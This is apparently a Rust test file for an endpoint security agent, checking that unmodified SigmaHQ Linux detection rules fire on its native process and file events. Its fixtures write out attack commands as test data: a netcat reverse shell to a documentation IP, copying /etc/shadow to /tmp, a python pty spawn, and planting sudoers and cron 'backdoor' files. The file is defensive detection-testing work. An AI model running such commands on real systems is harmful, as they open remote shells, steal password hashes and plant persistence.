//! SigmaHQ's Linux rules, unmodified, fire on our agents' native events: the field names and
//! logsource routing of `native.rs` are what community rules expect.

use std::collections::BTreeSet;
use std::path::PathBuf;

use haidang_proto::event::{
    Actor, AgentId, Detection, Event, EventBody, FileAction, FileEvent, ProcessAction, ProcessEvent, Timestamp,
};
use haidang_proto::text::Text;
use haidang_rules::{NativeEvent, RuleSet};

fn sigmahq_linux() -> PathBuf {
    haidang_testdata::sigma().join("rules/linux")
}

fn process(image: &str, command_line: &str) -> EventBody {
    EventBody::Process(ProcessEvent {
        action: ProcessAction::Start,
        pid: 4242,
        ppid: 4200,
        image: Text::from(image),
        command_line: Text::from(command_line),
        user: Text::from("nguyenvana"),
        parent_image: Some(Text::from("/usr/bin/bash")),
        image_hash: None,
        exit_code: None,
    })
}

fn file(action: FileAction, path: &str, writer: &str) -> EventBody {
    EventBody::File(FileEvent {
        action,
        path: Text::from(path),
        old_path: None,
        old: None,
        new: None,
        critical: false,
        detection: Detection::Realtime,
        actor: Some(Actor { pid: 4242, image: Text::from(writer) }),
    })
}

fn fired(rules: &RuleSet, body: EventBody) -> BTreeSet<String> {
    let event = Event { seq: 1, time: Timestamp(1_790_000_000_000_000_000), body };
    let native = NativeEvent::new(&AgentId([5; 16]), &event, Some("may-tram-03"));
    rules.detect(&native, Some(&native.logsource("linux"))).into_iter().filter_map(|r| r.header.rule_id).collect()
}

#[test]
fn sigmahq_linux_rules_fire_on_native_events() {
    let (rules, report) = RuleSet::load(&[sigmahq_linux()]);
    assert!(report.loaded() > 200, "{}", report.summary());
    let cases: &[(&str, EventBody, &str)] = &[
        (
            "netcat reverse shell",
            process("/usr/bin/nc", "nc 203.0.113.7 4444 -e /bin/bash"),
            "7f734ed0-4f47-46c0-837f-6ee62505abd9",
        ),
        (
            "shadow copied to /tmp",
            process("/usr/bin/cp", "cp /etc/shadow /tmp/s"),
            "fa4aaed5-4fe0-498d-bbc0-08e3346387ba",
        ),
        (
            "python pty spawn",
            process("/usr/bin/python3", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"),
            "c4042d54-110d-45dd-a0e1-05c47822c937",
        ),
        (
            "sudoers.d file created",
            file(FileAction::Created, "/etc/sudoers.d/99-tạm", "/usr/bin/tee"),
            "ddb26b76-4447-4807-871f-1b035b2bfa5d",
        ),
        (
            "cron file created",
            file(FileAction::Created, "/etc/cron.d/backdoor", "/usr/bin/cp"),
            "6c4e2f43-d94d-4ead-b64d-97e53fa2bd05",
        ),
    ];
    for (what, body, id) in cases {
        let got = fired(&rules, body.clone());
        assert!(got.contains(*id), "{what}: expected SigmaHQ rule {id}, fired {got:?}");
    }
}

#[test]
fn logsource_routing_keeps_file_rules_off_process_events_and_the_reverse() {
    let (rules, _) = RuleSet::load(&[sigmahq_linux()]);
    // The same path in a command line is not a file event: file_event rules must not fire.
    let on_process = fired(&rules, process("/usr/bin/ls", "ls /etc/sudoers.d/"));
    assert!(!on_process.contains("ddb26b76-4447-4807-871f-1b035b2bfa5d"), "{on_process:?}");
    // A file deleted is file_delete, not file_event: creation rules must not fire on it.
    let deleted = fired(&rules, file(FileAction::Deleted, "/etc/sudoers.d/99-tạm", "/usr/bin/rm"));
    assert!(!deleted.contains("ddb26b76-4447-4807-871f-1b035b2bfa5d"), "{deleted:?}");
    // An ordinary command fires nothing.
    let quiet = fired(&rules, process("/usr/bin/ls", "ls -la /home/nguyenvana/Tài liệu"));
    assert!(quiet.is_empty(), "benign command fired {quiet:?}");
}
